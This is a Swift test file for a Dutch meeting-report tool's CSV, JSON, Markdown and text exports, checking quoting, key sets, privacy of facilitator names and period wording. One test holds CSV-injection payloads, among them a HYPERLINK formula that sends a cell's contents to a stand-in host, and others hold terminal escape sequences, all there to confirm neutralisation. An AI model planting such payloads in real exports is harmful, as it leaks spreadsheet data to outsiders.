import DialoogCore
import DialoogTestSupport
import Foundation
import Testing

@testable import DialoogPrint

/// The four formats of `dialoog report`, on figures built here: a stable CSV header with RFC
/// 4180 quoting, JSON with the documented keys, and text and Markdown that name no one.
@Suite struct ReportRenderTests {
    /// Names that must never reach a report: gespreksleiders (one written as a full name) and a
    /// raised theme that is someone's name.
    static let names = ["Ayşe Yılmaz", "Hodan W.", "Fatma Yilmaz"]

    static func series(
        _ number: Int, _ name: String, _ org: String, _ method: String, _ place: String?, demo: Bool = false
    )
        -> Series
    {
        Series(
            id: "00000000-0000-4000-8000-0000000003" + String(format: "%02d", number), name: name, methodId: method,
            organisation: org, municipality: place, expectedGroupSize: 14, createdAt: Fixtures.now,
            facilitators: number == 1 ? [names[0]] : [names[1]], demo: demo)
    }

    static func meeting(
        _ series: Series, _ number: Int, _ date: String, held: Bool = true, safety: Int? = nil, present: Int = 0,
        headcount: Int? = nil
    ) -> MeetingFigures {
        MeetingFigures(
            seriesId: series.id, seriesName: series.name, organisation: series.organisation, methodId: series.methodId,
            municipality: series.municipality, demo: series.demo,
            meetingId: "00000000-0000-4000-8000-00000000040" + "\(number)".suffix(1) + series.id.suffix(1),
            number: number, kind: .regular, date: Fixtures.date(date), state: held ? .ended : .planned,
            expected: 14, participants: present, speakers: held ? 1 : 0, professionals: 0, observers: 0,
            countOnly: headcount != nil, headcount: headcount, promptsUsed: held ? 9 : 0,
            promptsUnplanned: held ? 2 : 0,
            promptsLanded: held ? 3 : 0, raisedThemes: held ? 1 : 0,
            signals: SignalCounts(helpCard: held ? 1 : 0), evaluated: safety != nil, atmosphere: safety,
            safety: safety, openness: safety.map { $0 - 1 }, resistanceMoments: safety.map { _ in 1 },
            useful: HandCount(yes: safety.map { _ in 8 }, partly: safety.map { _ in 3 }, no: safety.map { _ in 0 }),
            heard: HandCount(yes: safety.map { _ in 9 }), agreements: safety == nil ? 0 : 2)
    }

    /// Three series in the fourth quarter of 2026: one completed, one halfway, one planned.
    static func report(language: Language = .nl, library: Library? = Fixtures.shipped.library) -> Report {
        let one = series(1, "Moeders Kanaleneiland", "IOT", "yeni-pencere", "Utrecht")
        let two = series(2, "Vrouwen Oost", "Kezban", "kezban", "Amsterdam")
        let three = series(3, "Jongeren Feijenoord", "SMN", "gesprek-in-vrijheid", "Rotterdam")
        let meetings = [
            meeting(one, 1, "2026-10-06T19:30", safety: 4, present: 12),
            meeting(one, 2, "2026-10-20T19:30", safety: 5, present: 11),
            meeting(one, 3, "2026-11-03T19:30", safety: 3, present: 10),
            meeting(two, 1, "2026-11-10T10:00", safety: 4, headcount: 10),
            meeting(two, 2, "2026-11-24T10:00", present: 9),
            meeting(two, 3, "2026-12-08T10:00", held: false),
            meeting(three, 1, "2026-12-10T16:00", held: false),
        ]
        let filter = OverviewFilter(
            from: Fixtures.date("2026-10-01T00:00"), to: Fixtures.date("2027-01-01T00:00"), includeDemo: false)
        let overview = Overview(
            filter: filter,
            series: [
                SeriesFigures(
                    series: one, firstDate: Fixtures.date("2026-10-06T19:30"),
                    lastDate: Fixtures.date("2026-11-03T19:30"),
                    meetingsPlanned: 3, meetingsHeld: 3, reached: 14, cameToFirst: 12, cameToAll: 9,
                    averageSafety: 4, evaluated: 3, signals: SignalCounts(helpCard: 2, warm: 1), openFollowUps: 1),
                SeriesFigures(
                    series: two, firstDate: Fixtures.date("2026-11-10T10:00"),
                    lastDate: Fixtures.date("2026-12-08T10:00"),
                    meetingsPlanned: 3, meetingsHeld: 2, reached: 10, averageSafety: 4, evaluated: 1,
                    signals: SignalCounts(helpCard: 1, acute: 1), openFollowUps: 1),
                SeriesFigures(series: three, firstDate: Fixtures.date("2026-12-10T16:00"), meetingsPlanned: 3),
            ],
            totals: Overview.Totals(
                series: 3, meetingsPlanned: 9, meetingsHeld: 5, reached: 24, cameToFirst: 12, cameToAll: 9,
                seriesCompleted: 1, averageSafety: 4, evaluated: 4,
                signals: SignalCounts(helpCard: 3, warm: 1, acute: 1),
                openFollowUps: 2, overdueFollowUps: 1,
                heldPerOrganisation: [
                    Overview.NameCount(name: "IOT", count: 3), Overview.NameCount(name: "Kezban", count: 2),
                ]),
            meetingsPerMonth: [
                Overview.MonthCount(year: 2026, month: 10, count: 2),
                Overview.MonthCount(year: 2026, month: 11, count: 3),
            ],
            attendancePerNumber: [
                Overview.NumberCount(number: 1, count: 22), Overview.NumberCount(number: 2, count: 20),
            ],
            promptUses: [
                Overview.PromptCount(promptId: "opvoeding-stelling-1", count: 4),
                Overview.PromptCount(promptId: "huwelijksdwang-stelling-1", count: 3),
                Overview.PromptCount(promptId: "opvoeding-stelling-2", count: 2),
            ],
            // The store leaves out themes that name someone of their series (tested there);
            // capitalised words are a theme like any other.
            raisedThemes: [
                Overview.NameCount(name: "zakgeld en de telefoon", count: 3),
                Overview.NameCount(name: "Islam en Nederland", count: 1),
                Overview.NameCount(name: "thuis | op school", count: 2),
            ],
            targets: [
                TargetProgress(
                    target: OverviewTarget(
                        amount: 40, from: Fixtures.date("2026-01-01T00:00"), to: Fixtures.date("2027-01-01T00:00")),
                    reached: 22)
            ])
        return Report(
            overview: overview, meetings: meetings,
            landed: [
                Overview.PromptCount(promptId: "huwelijksdwang-stelling-1", count: 3),
                Overview.PromptCount(promptId: "niet-meer-in-de-bibliotheek", count: 2),
            ],
            generatedAt: Fixtures.now, calendar: Fixtures.calendar, language: language, library: library)
    }

    // MARK: - CSV

    /// Splits RFC 4180 text into rows of cells: the reading side of the quoting.
    static func parseCSV(_ text: String) -> [[String]] {
        var rows: [[String]] = []
        var row: [String] = []
        var cell = ""
        var quoted = false
        var characters = Array(text.unicodeScalars)[...]
        while let c = characters.popFirst() {
            if quoted {
                if c == "\"" {
                    if characters.first == "\"" {
                        cell.unicodeScalars.append(characters.removeFirst())
                    } else {
                        quoted = false
                    }
                } else {
                    cell.unicodeScalars.append(c)
                }
            } else if c == "\"" {
                quoted = true
            } else if c == "," {
                row.append(cell)
                cell = ""
            } else if c == "\r", characters.first == "\n" {
                characters.removeFirst()
                row.append(cell)
                rows.append(row)
                (row, cell) = ([], "")
            } else {
                cell.unicodeScalars.append(c)
            }
        }
        return rows
    }

    @Test func theCSVHeaderIsStable() {
        let csv = CSVReport.render([], calendar: Fixtures.calendar)
        #expect(csv.hasSuffix("\r\n"))
        let header = csv.replacingOccurrences(of: "\r\n", with: "\n").replacingOccurrences(of: ",", with: "\n")
        #expect(Snapshot.mismatch(header, named: "report-csv-columns", testFile: #filePath) == nil)
    }

    @Test func csvHasOneRowPerMeetingWithEmptyCellsForWhatIsNotKnown() throws {
        let report = Self.report()
        let rows = Self.parseCSV(CSVReport.render(report.meetings, calendar: Fixtures.calendar))
        #expect(rows.count == 1 + report.meetings.count)
        #expect(rows.allSatisfy { $0.count == CSVReport.columns.count })
        let cells = rows.dropFirst().map { Dictionary(uniqueKeysWithValues: zip(rows[0], $0)) }
        #expect(cells[0]["date"] == "2026-10-06")
        #expect(cells[0]["safety"] == "4")
        #expect(cells[0]["evaluated"] == "true")
        #expect(cells[3]["count_only"] == "true")
        #expect(cells[3]["headcount"] == "10")
        #expect(cells[3]["attendance"] == "10")
        #expect(cells[4]["safety"] == "", "not evaluated")
        #expect(cells[4]["agreements"] == "")
        #expect(cells[5]["state"] == "planned")
    }

    @Test func csvQuotesCommasQuotesAndLineBreaks() {
        let awkward = "Moeders \"Oost\", Utrecht\nnieuwe groep"
        var meeting = Self.report().meetings[0]
        meeting.seriesName = awkward
        meeting.organisation = "Plain"
        let csv = CSVReport.render([meeting], calendar: Fixtures.calendar)
        #expect(csv.contains(",\"Moeders \"\"Oost\"\", Utrecht\nnieuwe groep\",Plain,"))
        #expect(Self.parseCSV(csv)[1][1] == awkward)
    }

    /// OWASP's CSV injection: a text cell that starts like a formula gets a leading quote and
    /// is quoted, and a CSV reader gets the text back with that quote in front.
    @Test(arguments: ["=HYPERLINK(\"http://x/\"&A1,\"klik\")", "+1", "-cmd", "@SUM(1)", "\tTab", "\rCR"])
    func csvNeutralisesCellsThatStartLikeAFormula(municipality: String) {
        var meeting = Self.report().meetings[0]
        meeting.municipality = municipality
        meeting.organisation = municipality
        meeting.seriesName = municipality
        let csv = CSVReport.render([meeting], calendar: Fixtures.calendar)
        let rows = Self.parseCSV(csv)
        let cells = Dictionary(uniqueKeysWithValues: zip(rows[0], rows[1]))
        for column in ["municipality", "organisation", "series_name"] {
            #expect(cells[column] == "'" + municipality, "\(column)")
        }
        let quoted = "\"'" + municipality.replacingOccurrences(of: "\"", with: "\"\"") + "\""
        #expect(csv.contains("," + quoted + ","), "quoted, the single quote inside")
        #expect(rows[1].count == CSVReport.columns.count)
    }

    /// Only text is neutralised: figures dialoog writes stay numbers, even negative ones, and
    /// a control character in a text cell is written out, never raw.
    @Test func csvKeepsFiguresAsNumbersAndEscapesControlCharacters() {
        var meeting = Self.report().meetings[0]
        meeting.resistanceMoments = -2
        meeting.municipality = "Utrecht\u{1B}[2J\u{9B}1m\u{07}"
        let csv = CSVReport.render([meeting], calendar: Fixtures.calendar)
        let cells = Dictionary(uniqueKeysWithValues: zip(Self.parseCSV(csv)[0], Self.parseCSV(csv)[1]))
        #expect(cells["resistance_moments"] == "-2")
        #expect(csv.contains(",-2,"))
        #expect(cells["municipality"] == "Utrecht\\u{1B}[2J\\u{9B}1m\\u{07}")
        #expect(!csv.unicodeScalars.contains { $0 == "\u{1B}" || $0 == "\u{9B}" || $0 == "\u{07}" })
    }

    /// JSON escapes C0 itself; DEL and C1 are escaped the same way, and the string reads back.
    @Test func jsonEscapesC1AndReadsBackUnchanged() throws {
        var report = Self.report()
        report.meetings[0].municipality = "A\u{1B}]0;t\u{07}\u{9B}2J\u{7F}"
        let text = JSONReport.render(report)
        #expect(!text.unicodeScalars.contains { SafeText.isUnsafe($0) && $0 != "\n" })
        let json = try #require(try JSONSerialization.jsonObject(with: Data(text.utf8)) as? [String: Any])
        let meetings = try #require(json["meetings"] as? [[String: Any]])
        #expect(meetings[0]["municipality"] as? String == "A\u{1B}]0;t\u{07}\u{9B}2J\u{7F}")
    }

    // MARK: - JSON

    /// The streamed report is the report's one value written whole: key order, indentation,
    /// escapes, nulls and empty arrays alike, with meetings written straight from their figures.
    @Test func writeMatchesTheDocument() {
        var report = Self.report()
        report.meetings[0].municipality = "Quote \" back\\slash \u{1B}[2J, \u{9B}1m"
        report.meetings[1].seriesName = "=SUM(A1)"
        report.meetings[1].date = nil
        report.meetings[2].safety = nil
        report.meetings[2].resistanceMoments = -3
        var pieces = 0
        var streamed = ""
        JSONReport.write(report) {
            streamed += $0
            pieces += 1
        }
        #expect(streamed == JSONReport.document(report).text)
        #expect(pieces > report.meetings.count + report.overview.series.count, "a piece per series and meeting")
        var empty = Self.report()
        empty.meetings = []
        empty.overview.series = []
        #expect(JSONReport.render(empty) == JSONReport.document(empty).text)
        #expect(JSONReport.render(empty).contains("\"meetings\" : [\n\n  ]"))
    }

    @Test func jsonParsesAndHasTheDocumentedKeys() throws {
        let text = JSONReport.render(Self.report())
        let json = try #require(try JSONSerialization.jsonObject(with: Data(text.utf8)) as? [String: Any])
        #expect(
            Set(json.keys) == [
                "filter", "generated_at", "totals", "series", "meetings", "charts", "targets", "period_rule",
                "per_organisation", "per_municipality", "per_method",
            ])
        #expect(json["generated_at"] as? String == "2026-12-01T19:30")
        // A table per municipality adds up to the key figures.
        let municipalities = try #require(json["per_municipality"] as? [[String: Any]])
        let held = municipalities.compactMap { $0["meetings_held"] as? Int }.reduce(0, +)
        #expect(held == 5 && municipalities.compactMap { $0["series"] as? Int }.reduce(0, +) == 3)
        let filter = try #require(json["filter"] as? [String: Any])
        #expect(filter["from"] as? String == "2026-10-01")
        #expect(filter["to"] as? String == "2026-12-31", "the last day included, as --to takes it")
        #expect(filter["organisation"] is NSNull)
        #expect(filter["include_demo"] as? Bool == false)
        #expect(filter["laptop"] is NSNull, "every laptop's series")
        var one = Self.report()
        one.overview.filter.laptop = "0f8fad5b-d9cb-469f-a165-70867728950f"
        let narrowed = try #require(
            try JSONSerialization.jsonObject(with: Data(JSONReport.render(one).utf8)) as? [String: Any])
        #expect((narrowed["filter"] as? [String: Any])?["laptop"] as? String == "0f8fad5b")
        let totals = try #require(json["totals"] as? [String: Any])
        #expect(
            Set(totals.keys) == [
                "series", "series_completed", "meetings_planned", "meetings_held", "reached", "came_to_first",
                "came_to_all", "retention", "average_safety", "evaluated", "signals", "open_follow_ups",
                "overdue_follow_ups", "held_per_organisation", "volunteer_hours", "expenses_euros",
                "average_collaboration", "recommendations", "headcount_parts", "professionals_present", "useful",
                "heard", "series_per_venue", "series_per_language", "series_per_target_group",
            ])
        #expect(totals["retention"] as? Double == 0.75)
        #expect((totals["signals"] as? [String: Any])?["acute"] as? Int == 1)
        let series = try #require(json["series"] as? [[String: Any]])
        #expect(series.count == 3)
        #expect(
            Set(series[0].keys) == [
                "id", "name", "organisation", "method", "municipality", "demo", "first_date", "last_date",
                "meetings_planned", "meetings_held", "reached", "came_to_first", "came_to_all", "retention",
                "average_safety", "evaluated", "signals", "open_follow_ups",
            ])
        #expect(series[1]["came_to_all"] is NSNull)
        let meetings = try #require(json["meetings"] as? [[String: Any]])
        #expect(Set(meetings[0].keys) == Set(CSVReport.columns))
        #expect(meetings[0]["safety"] as? Int == 4)
        #expect(meetings[0]["demo"] as? Bool == false)
        #expect(meetings[4]["safety"] is NSNull)
        let charts = try #require(json["charts"] as? [String: Any])
        #expect(
            Set(charts.keys) == [
                "meetings_per_month", "attendance_per_number", "prompt_uses", "raised_themes", "raised_themes_withheld",
                "recommendations", "recommendations_withheld",
            ])
        let themes = try #require(charts["raised_themes"] as? [[String: Any]])
        #expect(
            themes.map { $0["theme"] as? String } == [
                "zakgeld en de telefoon", "Islam en Nederland", "thuis | op school",
            ])
        #expect((charts["meetings_per_month"] as? [[String: Any]])?.first?["month"] as? String == "2026-10")
        let target = try #require((json["targets"] as? [[String: Any]])?.first)
        #expect(target["figure"] as? String == "meetings" && target["amount"] as? Int == 40)
        #expect(target["reached"] as? Int == 22 && target["percent"] as? Int == 55)
        #expect(target["to"] as? String == "2026-12-31")
        #expect(target["organisation"] is NSNull)
        // 18 to go from 1 December to the end of December: 18 a month, rounded up.
        #expect((target["pace_per_month"] as? Int ?? 0) >= 18)
        for name in Self.names { #expect(!text.contains(name)) }
    }

    // MARK: - Text and Markdown

    @Test(arguments: [Language.nl, .en]) func textAndMarkdownNameNoOne(language: Language) {
        let report = Self.report(language: language)
        for text in [MarkdownReport.render(report), TerminalReport.render(report), JSONReport.render(report)] {
            for name in Self.names { #expect(!text.contains(name), "\(name)") }
        }
        let markdown = MarkdownReport.render(report)
        #expect(markdown.contains("zakgeld en de telefoon"))
        #expect(markdown.contains("thuis \\| op school"), "a pipe cannot break the table")
    }

    @Test func theMarkdownReportForAMunicipality() {
        let markdown = MarkdownReport.render(Self.report())
        #expect(markdown.hasPrefix("# Dialoogbijeenkomsten · 4e kwartaal 2026\n"))
        #expect(Snapshot.mismatch(markdown, named: "report-md-nl", testFile: #filePath) == nil)
        let english = MarkdownReport.render(Self.report(language: .en))
        #expect(english.hasPrefix("# Dialogue meetings · Q4 2026\n"))
        #expect(Snapshot.mismatch(english, named: "report-md-en", testFile: #filePath) == nil)
    }

    @Test func whatWentWellIsDerivedFromTheFiguresOnly() {
        let markdown = MarkdownReport.render(Self.report())
        #expect(markdown.contains("In 3 van de 4 geëvalueerde bijeenkomsten was de ervaren veiligheid 4 of 5"))
        #expect(markdown.contains("9 van de 12 deelnemers van een eerste bijeenkomst kwamen bij alle drie (75%)."))
        #expect(markdown.contains("“Een huwelijk begint met twee keer ja.” (3 keer)"))
        #expect(!markdown.contains("niet-meer-in-de-bibliotheek"))
        var empty = Self.report()
        empty.overview = Overview(filter: empty.filter)
        empty.meetings = []
        empty.landed = []
        let nothing = MarkdownReport.render(empty)
        #expect(nothing.contains("De cijfers laten nog niets zien dat als geslaagd telt"))
        #expect(nothing.contains("Er zijn geen zelf ingebrachte thema's genoteerd."))
        #expect(nothing.contains("Er zijn geen prompts gebruikt."))
    }

    @Test func whatWentWellLeavesOutWhatDidNotGoWell() {
        var poor = Self.report()
        // One evaluated meeting, scored 2; one in twenty-five came back; 4% of the target.
        poor.meetings = poor.meetings.map { meeting in
            var meeting = meeting
            meeting.safety = nil
            return meeting
        }
        poor.meetings[0].safety = 2
        poor.overview.totals.cameToFirst = 25
        poor.overview.totals.cameToAll = 1
        poor.overview.targets[0].reached = 2
        poor.overview.totals.seriesCompleted = 0
        poor.landed = []
        let markdown = MarkdownReport.render(poor)
        let wentWell = markdown.components(separatedBy: "## Wat goed ging")[1].components(separatedBy: "## ")[0]
        #expect(!wentWell.contains("0 van de 1"))
        #expect(!wentWell.contains("%"), "\(wentWell)")
        #expect(wentWell.contains("De cijfers laten nog niets zien dat als geslaagd telt"))
        // The key figures still say it as it is.
        #expect(markdown.contains("1 van de 25 die bij bijeenkomst 1 waren (4%)"), "\(markdown)")
    }

    @Test func theTextReportLinesUpItsTables() {
        let text = TerminalReport.render(Self.report())
        #expect(Snapshot.mismatch(text, named: "report-text-nl", testFile: #filePath) == nil)
        #expect(text.split(separator: "\n").allSatisfy { !$0.hasSuffix(" ") })
    }

    @Test func periodsAreNamedByYearQuarterMonthOrTheirDays() {
        func words(_ from: String?, _ to: String?, _ language: Language = .nl) -> String {
            var report = Self.report(language: language)
            report.overview.filter.from = from.map { Fixtures.date($0 + "T00:00") }
            report.overview.filter.to = to.map { Fixtures.date($0 + "T00:00") }
            return report.periodWords
        }
        #expect(words("2026-01-01", "2027-01-01") == "2026")
        #expect(words("2026-07-01", "2026-10-01") == "3e kwartaal 2026")
        #expect(words("2026-11-01", "2026-12-01") == "november 2026")
        #expect(words("2026-11-01", "2026-12-01", .en) == "November 2026")
        #expect(words("2026-11-03", "2026-12-01") == "3 november 2026 t/m 30 november 2026")
        #expect(words("2026-11-03", nil) == "vanaf 3 november 2026")
        #expect(words(nil, "2026-12-01", .en) == "up to 30 November 2026")
        #expect(words(nil, nil) == "alle bijeenkomsten")
    }
}
